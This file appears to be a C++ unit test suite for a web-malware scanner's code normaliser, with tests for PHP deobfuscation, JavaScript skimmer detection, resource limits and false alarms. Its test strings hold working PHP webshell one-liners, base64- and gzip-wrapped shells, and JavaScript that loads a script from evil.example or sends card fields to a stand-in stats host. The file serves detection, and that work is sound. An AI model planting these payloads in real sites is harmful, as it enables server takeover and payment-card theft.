@@ -1,0 +1,309 @@
+// The normalisers (PHP, JS, HTML) and the behaviour traits read off their output: folding
+// and decoding cases, broken and hostile input (bounded, never a crash), and the false
+// alarms seen on clean trees.
+#include "webroot/normalize.h"
+
+#include <gtest/gtest.h>
+#include <zlib.h>
+
+#include <chrono>
+#include <string>
+
+#include "webroot/code_lexer.h"
+
+namespace tq::webroot {
+namespace {
+
+std::string Base64(std::string_view in) {
+  static const char* a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+  std::string out;
+  size_t i = 0;
+  for (; i + 2 < in.size(); i += 3) {
+    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8) | uint8_t(in[i + 2]);
+    for (int k = 3; k >= 0; --k) out += a[(v >> (6 * k)) & 63];
+  }
+  if (in.size() - i == 1) {
+    uint32_t v = uint8_t(in[i]) << 16;
+    out += a[(v >> 18) & 63], out += a[(v >> 12) & 63], out += "==";
+  } else if (in.size() - i == 2) {
+    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8);
+    out += a[(v >> 18) & 63], out += a[(v >> 12) & 63], out += a[(v >> 6) & 63], out += '=';
+  }
+  return out;
+}
+
+std::string Deflate(std::string_view in) {
+  z_stream z{};
+  deflateInit2(&z, 9, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY);
+  std::string out(deflateBound(&z, in.size()), '\0');
+  z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
+  z.avail_in = static_cast<uInt>(in.size());
+  z.next_out = reinterpret_cast<Bytef*>(out.data());
+  z.avail_out = static_cast<uInt>(out.size());
+  deflate(&z, Z_FINISH);
+  out.resize(z.total_out);
+  deflateEnd(&z);
+  return out;
+}
+
+bool HasTrait(const NormalizedCode& n, std::string_view id) {
+  for (const CodeTrait& t : n.traits)
+    if (t.id == id) return true;
+  return false;
+}
+int Best(const NormalizedCode& n) {
+  int b = 0;
+  for (const CodeTrait& t : n.traits) b = std::max(b, t.strength);
+  return b;
+}
+std::string AllText(const NormalizedCode& n) {
+  std::string s;
+  for (const CodeLayer& l : n.layers) s += "[" + l.path + "]" + l.text + "\n";
+  return s;
+}
+
+NormalizedCode Php(std::string_view src) { return Normalize(src, CodeKind::kPhp); }
+NormalizedCode Js(std::string_view src) { return Normalize(src, CodeKind::kJs); }
+
+TEST(Normalize, CommentsGoneAndConcatenationFolded) {
+  auto n =
+      Php("<?php /* eval($_POST[1]) */ // system($x)\n# passthru\n$f = "
+          "'ba'.'se'.(32*2).'_de'.'code'; echo \"\\x61\\163\\u{73}ert\";");
+  std::string t = n.layers.at(0).text;
+  EXPECT_EQ(t.find("eval"), std::string::npos) << t;
+  EXPECT_EQ(t.find("passthru"), std::string::npos) << t;
+  EXPECT_NE(t.find("'base64_decode'"), std::string::npos) << t;
+  EXPECT_NE(t.find("'assert'"), std::string::npos) << t;
+  EXPECT_EQ(Best(n), 0) << AllText(n);
+}
+
+TEST(Normalize, VariableFunctionOnRequestWithoutEval) {
+  auto n = Php("<?php ($_=@$_REQUEST[q]).@$_($_REQUEST[z]);");
+  EXPECT_TRUE(HasTrait(n, "php.request_as_function")) << AllText(n);
+  EXPECT_EQ(Best(n), 4);
+}
+
+TEST(Normalize, BuiltNameAndDecodedPayloadNameTheLayerPath) {
+  std::string payload = "eval($_POST['c']);";
+  std::string src = "<?php $a='as'; $b=$a.'s'.'ert'; $d='b'.$a.'e'.(64).'_decode'; @$b(@$d('" +
+                    Base64(payload) + "'));";
+  auto n = Php(src);
+  ASSERT_GE(n.layers.size(), 2u) << AllText(n);
+  EXPECT_EQ(n.layers[1].path, "php>base64_decode");
+  EXPECT_NE(n.layers[1].text.find("eval($_POST['c'])"), std::string::npos);
+  bool in_layer = false;
+  for (const CodeTrait& t : n.traits)
+    if (t.id == "php.request_to_exec" && t.layer == "php>base64_decode") in_layer = true;
+  EXPECT_TRUE(in_layer) << AllText(n);
+}
+
+TEST(Normalize, GzinflateBase64ChainAndHexEscapedPregE) {
+  std::string inner = "<?php system($_GET['cmd']); ?>";
+  std::string src = "<?php eval(gzinflate(base64_decode('" + Base64(Deflate(inner)) + "')));";
+  auto n = Php(src);
+  EXPECT_TRUE(HasTrait(n, "php.request_to_shell")) << AllText(n);
+  bool path = false;
+  for (const CodeLayer& l : n.layers)
+    path |= l.path == "php>eval>base64_decode>gzinflate" || l.path == "php>base64_decode>gzinflate";
+  EXPECT_TRUE(path) << AllText(n);
+  // preg_replace with /e spelled in hex escapes, replacement taken from the request.
+  auto p = Php("<?php preg_replace(\"\\x2f\\x2e\\x2a\\x2f\\x65\", $_POST['x'], 'a');");
+  EXPECT_TRUE(HasTrait(p, "php.request_to_exec")) << AllText(p);
+}
+
+TEST(Normalize, StrRot13StrrevHex2binPackUrldecodeChr) {
+  auto n =
+      Php("<?php $f = str_rot13('flfgrz'); $g = strrev('tressa'); $h = hex2bin('73797374656d');"
+          " $i = pack('H*', '6576616c'); $j = urldecode('%61%73sert'); $k = "
+          "chr(101).chr(118).chr(97).chr(108);");
+  std::string t = n.layers.at(0).text;
+  for (const char* w : {"'system'", "'assert'", "'eval'"})
+    EXPECT_NE(t.find(w), std::string::npos) << w << " in " << t;
+}
+
+TEST(Normalize, StringXorAndBareWords) {
+  // 'a'^'b' style names: PHP computes them byte by byte.
+  std::string a = "sys", b = "\x20\x20\x20";
+  std::string x;
+  for (size_t i = 0; i < a.size(); ++i) x += static_cast<char>(a[i] ^ b[i]);
+  auto n = Php("<?php $n = '" + x + "' ^ '   '; echo $n;");
+  EXPECT_NE(n.layers.at(0).text.find("'sys'"), std::string::npos) << AllText(n);
+}
+
+TEST(Normalize, JsStringArrayFromCharCodeAtobAndBracketCalls) {
+  std::string url = "https://evil.example/c.js";
+  std::string src = "var _0xa1=['createElement','script','src','" + Base64(url) +
+                    "'];var s=document[_0xa1[0]](_0xa1[1]);s[_0xa1[2]]=this['atob'](_0xa1[3]);"
+                    "var k=String.fromCharCode(99,104,101,99,107,111,117,116);";
+  auto n = Js(src);
+  std::string t = n.layers.at(0).text;
+  EXPECT_NE(t.find("document.createElement('script')"), std::string::npos) << t;
+  EXPECT_NE(t.find("'" + url + "'"), std::string::npos) << t;
+  EXPECT_NE(t.find("'checkout'"), std::string::npos) << t;
+  EXPECT_TRUE(HasTrait(n, "js.script_injection")) << AllText(n);
+}
+
+TEST(Normalize, JsCardFieldsSentThroughAnImage) {
+  auto n =
+      Js("document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});"
+         "if(d['payment[cc_number]']){var m=new "
+         "Image();m.src='https://stats.example/p?d='+btoa(JSON.stringify(d));}");
+  EXPECT_TRUE(HasTrait(n, "js.card_exfil")) << AllText(n);
+  EXPECT_GE(Best(n), 3);
+  // The same form code posting to the store itself is not exfiltration.
+  auto own =
+      Js("var d=jQuery('#co-payment-form').serialize(); jQuery.post('/checkout/payment', d);"
+         "var cc=jQuery('[name=\"payment[cc_number]\"]').val();");
+  EXPECT_FALSE(HasTrait(own, "js.card_exfil")) << AllText(own);
+}
+
+TEST(Normalize, HtmlForeignScriptIsWeakAlone) {
+  auto n =
+      Normalize("<html><script src=\"//cdn.other.example/x.js\"></script></html>", CodeKind::kHtml);
+  EXPECT_TRUE(HasTrait(n, "html.external_script"));
+  EXPECT_EQ(Best(n), 1);
+}
+
+TEST(Normalize, ShallowTaintKeepsFrameworkCallbacksQuiet) {
+  // A router calling a controller callback with request data is not a webshell.
+  auto n =
+      Php("<?php $params = $_GET; $controller = $this->resolve($route); "
+          "return call_user_func_array([$controller, 'handle'], [$params]);");
+  EXPECT_FALSE(HasTrait(n, "php.request_to_exec")) << AllText(n);
+  // A template engine evaluating compiled code is weak alone.
+  auto t = Php("<?php eval('?>' . $compiled);");
+  EXPECT_LE(Best(t), 2);
+}
+
+// --- broken and hostile input: bounded, never a crash ------------------------------
+
+TEST(NormalizeBroken, UnterminatedStringsCommentsHeredocs) {
+  for (std::string src : {"<?php $a = 'never closed", "<?php $a = \"never \\", "<?php /* open",
+                          "<?php $x = <<<EOT\nno end", "<?php $x = <<<'N'\n", "<?php `ls",
+                          "<?php $a = '\\", "<?php \"\\u{110000", "<?php \"\\u{", "<?php \"\\x"}) {
+    auto n = Php(src);
+    EXPECT_EQ(n.layers.size(), 1u) << src;
+  }
+  for (std::string src : {"var a = 'open", "/* open", "x = /[/", "`${", "a = \"\\u{zz"}) {
+    auto n = Js(src);
+    EXPECT_EQ(n.layers.size(), 1u) << src;
+  }
+}
+
+TEST(NormalizeBroken, HundredNestedEncodingLayersStopAtTheDepthLimit) {
+  std::string code = "system($_GET['c']);";
+  // gzinflate keeps each layer about the size of the one inside (base64 alone would grow
+  // the sample by 4/3 a layer, past any disk).
+  for (int i = 0; i < 100; ++i)
+    code = "eval(gzinflate(base64_decode('" + Base64(Deflate(code)) + "')));";
+  ASSERT_LT(code.size(), 1u << 20);
+  auto start = std::chrono::steady_clock::now();
+  auto n = Php("<?php " + code);
+  double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
+  EXPECT_LT(secs, 10.0);
+  EXPECT_TRUE(n.truncated);
+  EXPECT_LE(n.layers.size(), NormalizeLimits().max_layers);
+  for (const CodeLayer& l : n.layers) EXPECT_LE(l.depth, NormalizeLimits().max_depth);
+}
+
+TEST(NormalizeBroken, FiftyMegabyteSingleLine) {
+  std::string big = "<?php $a = '";
+  big.append(50u << 20, 'A');
+  big += "'; eval($_POST['x']);";
+  auto start = std::chrono::steady_clock::now();
+  auto n = Php(big);
+  double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
+  EXPECT_LT(secs, 20.0);
+  EXPECT_TRUE(n.truncated);  // the input cap cut it
+  size_t total = 0;
+  for (const CodeLayer& l : n.layers) total += l.text.size();
+  EXPECT_LE(total, NormalizeLimits().max_layers * NormalizeLimits().max_layer_text);
+  std::string js = "var a='";
+  js.append(50u << 20, 'b');
+  auto j = Js(js);
+  EXPECT_TRUE(j.truncated);
+}
+
+TEST(NormalizeBroken, DoublingConcatenationIsCharged) {
+  std::string src =
+      "<?php $a0 = 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';";
+  for (int i = 1; i < 60; ++i)
+    src += "$a" + std::to_string(i) + " = $a" + std::to_string(i - 1) + " . $a" +
+           std::to_string(i - 1) + ";";
+  auto start = std::chrono::steady_clock::now();
+  auto n = Php(src);
+  double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
+  EXPECT_LT(secs, 10.0);
+  EXPECT_TRUE(n.truncated);
+}
+
+TEST(NormalizeBroken, InvalidUtf8AndControlCharacters) {
+  std::string src = "<?php $\xff\xfe = '\xc3\x28\x00\x01'; \x80\x81 eval(\"\\xff\\x00\");\x1b[31m";
+  auto n = Php(src);
+  EXPECT_EQ(n.layers.size() >= 1, true);
+  auto j = Js(std::string("var \xe2\x28\xa1 = '\xff\x00'; \x00\x00 atob('\xff\xff\xff\xff');", 44));
+  EXPECT_EQ(j.layers.size(), 1u);
+  // A zip bomb behind gzinflate stops at the layer cap.
+  std::string zeros(64u << 20, '\0');
+  auto z = Php("<?php eval(gzinflate(base64_decode('" + Base64(Deflate(zeros)) + "')));");
+  EXPECT_LE(z.layers.size(), 2u);
+}
+
+// --- false alarms seen on clean trees ----------------------------------------------------
+
+TEST(NormalizeQuiet, PhpTagInImageDataIsNotCode) {
+  std::string png("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00<?=\x8f\xa3\x00\x11\x92\xff\xfe\x01",
+                  32);
+  EXPECT_FALSE(PhpTagHoldsCode(png));
+  EXPECT_EQ(ClassifyCode(png, "png"), CodeKind::kNone);
+  std::string js_regex = "var re = /<?=\\s*/; ";
+  EXPECT_FALSE(PhpTagHoldsCode(js_regex));
+  EXPECT_TRUE(PhpTagHoldsCode("GIF89a<?php system($_GET['c']); ?>"));
+  EXPECT_TRUE(PhpTagHoldsCode("\xff\xd8\xff\xe0<?=`$_GET[c]`?>"));
+}
+
+TEST(NormalizeQuiet, BackticksInDocCommentsAreNotShellCalls) {
+  auto n =
+      Php("<?php\n/**\n * Use `$_GET['page']` to pick the page, e.g. `?page=2`.\n */\n"
+          "function page() { return (int) ($_GET['page'] ?? 1); }");
+  EXPECT_EQ(Best(n), 0) << AllText(n);
+}
+
+TEST(NormalizeQuiet, LicenceEncodedLoaderIsObfuscationOnly) {
+  // The loader stub of an encoded commercial extension: no request input reaches a sink.
+  auto n =
+      Php("<?php if(!extension_loaded('ionCube Loader')){$__oc=strtolower(substr(php_uname(),0,3));"
+          "$__ln='ioncube_loader_'.$__oc.'_'.substr(phpversion(),0,3).'.so';@dl($__ln);}"
+          "return;?>\nHR+cPo2kEaZ3zq1VJr8TxC8HyGmbpL0Hx6yH8s6q1");
+  EXPECT_LT(Best(n), 3) << AllText(n);
+}
+
+}  // namespace
+}  // namespace tq::webroot
+
+namespace tq::webroot {
+namespace {
+
+TEST(NormalizeJs, NamesHiddenInABase64StringArrayStillCount) {
+  // An obfuscator's string table: every name base64-encoded with a case-swapped alphabet,
+  // looked up through a function the normaliser does not run.
+  auto swap = [](std::string s) {
+    for (char& c : s)
+      c = std::isupper(static_cast<unsigned char>(c)) ? static_cast<char>(std::tolower(c))
+                                                      : static_cast<char>(std::toupper(c));
+    return s;
+  };
+  std::string table;
+  for (const char* w :
+       {"payment[cc_number]", "checkout", "Image", "src", "https://cdn-stats.example/i.gif"})
+    table += "'" + swap(Base64(w)) + "',";
+  auto n =
+      Js("var _0x3f2a=[" + table +
+         "];function _0x1b(i){return atob(_0x3f2a[i]);}"
+         "var v=document[_0x1b(0)];var m=new window[_0x1b(2)]();m[_0x1b(3)]=_0x1b(4)+btoa(v);");
+  EXPECT_TRUE(HasTrait(n, "js.card_exfil")) << AllText(n);
+  EXPECT_EQ(Best(n), 4);
+}
+
+}  // namespace
+}  // namespace tq::webroot
